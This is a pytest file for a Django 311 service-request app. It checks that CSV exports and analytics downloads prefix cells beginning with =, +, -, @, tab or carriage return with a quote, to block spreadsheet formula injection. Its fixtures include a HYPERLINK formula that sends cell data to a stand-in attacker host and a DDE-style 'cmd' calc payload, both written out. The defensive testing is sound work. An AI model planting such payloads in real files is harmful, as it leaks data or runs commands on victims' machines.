"""No CSV download hands a spreadsheet a formula: a text cell beginning with =, +, -, @, a tab
or a carriage return goes out with a single quote in front (OWASP's advice on CSV injection),
in the open-data export (row by row on SQLite, by COPY on PostgreSQL) and in the analytics
pages' tables; numbers, negative ones too, stay numbers."""

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from care311.service_requests.models import ServiceRequest

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CALC = "@SUM(1+1)*cmd|'/C calc'!A0"


def exported_bytes(tmp_path: Path) -> bytes:
    """The CSV export as written (read_text would turn a carriage return into a newline)."""
    path = tmp_path / "export.csv"
    call_command("export", "--format", "csv", "--output", str(path), stdout=io.StringIO())
    return path.read_bytes()


def by_id(text: str) -> dict[str, dict[str, str]]:
    return {row["service_request_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_the_open_data_export_writes_formulas_as_text(tmp_path, residents_requests):
    first, second, third = residents_requests[:3]
    ServiceRequest.objects.filter(pk=first.pk).update(
        description=HYPERLINK, address=CALC, status_notes="+1 (918) 555-0134 called"
    )
    ServiceRequest.objects.filter(pk=second.pk).update(
        description="\tTab first", status_notes="\r=1+1", closure_reason="-2+3", zipcode="-"
    )
    ServiceRequest.objects.filter(pk=third.pk).update(description="Fine = fine", latitude=-36.5)

    written = by_id(exported_bytes(tmp_path).decode())

    one, two, three = (written[request.public_id] for request in (first, second, third))
    assert one["description"] == "'" + HYPERLINK
    assert one["address"] == "'" + CALC
    assert one["status_notes"] == "[phone removed] called"  # scrubbed first: nothing to run
    assert two["description"] == "'\tTab first"
    assert two["status_notes"] == "'\r=1+1"
    assert (two["closure_reason"], two["zipcode"]) == ("'-2+3", "'-")
    assert three["description"] == "Fine = fine"
    assert three["latitude"] == "-36.5"
    assert one["longitude"] == "-95.9928"


def test_a_table_download_writes_formulas_as_text(client, cast, pothole, residents_requests):
    pothole.name = "=1+1"
    pothole.save()
    client.force_login(cast["sue"])

    text = client.get("/analytics/?kind=month&day=2025-03-01&csv=services").content.decode()

    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["Service", "Received"]
    assert rows[1][:4] == ["'=1+1", "2", "0", "2"]


def test_the_data_dictionary_says_so_in_english_and_spanish(client, settings, tmp_path):
    settings.OPEN_DATA_DIR = tmp_path

    english = client.get("/open-data/").content.decode()
    spanish = client.get("/open-data/", headers={"accept-language": "es"}).content.decode()

    assert (
        "In the CSV file, a text value that begins with =, +, -, @, a tab or a carriage return "
        "has a single quote (') put in front of it, so that a spreadsheet shows it as text "
        "instead of running it as a formula."
    ) in english
    assert "lleva delante una comilla simple (')" in spanish
